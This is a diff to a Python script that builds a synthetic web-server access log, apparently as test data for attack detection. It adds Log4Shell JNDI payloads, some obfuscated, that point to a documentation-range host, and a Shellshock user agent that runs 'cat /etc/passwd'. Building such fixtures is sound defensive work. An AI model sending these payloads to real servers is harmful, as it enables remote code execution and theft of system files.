@@ -3,7 +3,8 @@
 Benign clients (10/8, 2001:db8::/32) read pages, search for words such as "select" and
 "union", follow login redirects and long tracking links, and now and then hit a missing page.
 Attackers (documentation addresses 192.0.2.0/24, 198.51.100.0/24, 203.0.113.0/24) inject SQL,
-script, traversal and inclusion payloads, probe for secrets, run scanners and brute-force paths.
+script, traversal and inclusion payloads, send Log4Shell and Shellshock exploits, probe for
+secrets, run scanners and brute-force paths.
 Lines are in the formats servers write: Apache/nginx combined, common, Apache vhost_combined,
 nginx combined with a trailing X-Forwarded-For, IPv6 clients, `-` sizes, escaped quotes, and
 one line cut off mid-field (a dead letter). Fixed seed: the file is the same at every run.
@@ -98,6 +99,13 @@ SENSITIVE = [
     "/www.tar.gz",
     "/.DS_Store",
 ]
+LOG4SHELL_AGENTS = [
+    "${jndi:ldap://198.51.100.200:1389/Basic/Command/Base64/aWQ=}",
+    "${${lower:j}ndi:${lower:l}${lower:d}a${lower:p}://198.51.100.200/a}",
+    "${${::-j}${::-n}${::-d}${::-i}:${::-r}${::-m}${::-i}://198.51.100.200/a}",
+]
+LOG4SHELL_TARGET = "/?q=%24%7Bjndi%3Adns%3A%2F%2F198.51.100.200%2Fz%7D"
+SHELLSHOCK_AGENT = "() { :; }; echo; /bin/bash -c 'cat /etc/passwd'"
 WORDLIST = [
     "admin",
     "administrator",
@@ -217,6 +225,12 @@ def main() -> None:
         "Mozilla/5.00 (Nikto/2.1.6) (Evasions:None) (Test:000123)",
     )
     attack("192.0.2.80", 16, 0, ["/"], "Mozilla/5.0 zgrab/0.x", status=200)
+    # Log4Shell: JNDI lookups in the user agent (plain and obfuscated) and the query string.
+    for i, agent in enumerate(LOG4SHELL_AGENTS):
+        attack("203.0.113.90", 17, 30 + i, ["/"], agent, status=200)
+    attack("203.0.113.90", 17, 33, [LOG4SHELL_TARGET], BROWSERS[2], status=200)
+    # Shellshock: bash function definitions in the agent of CGI requests.
+    attack("198.51.100.95", 18, 5, ["/cgi-bin/status", "/cgi-bin/test.cgi"], SHELLSHOCK_AGENT)
 
     lines.sort(key=lambda item: item[0])
     OUT.write_text("".join(line + "\n" for _, line in lines), encoding="utf-8")
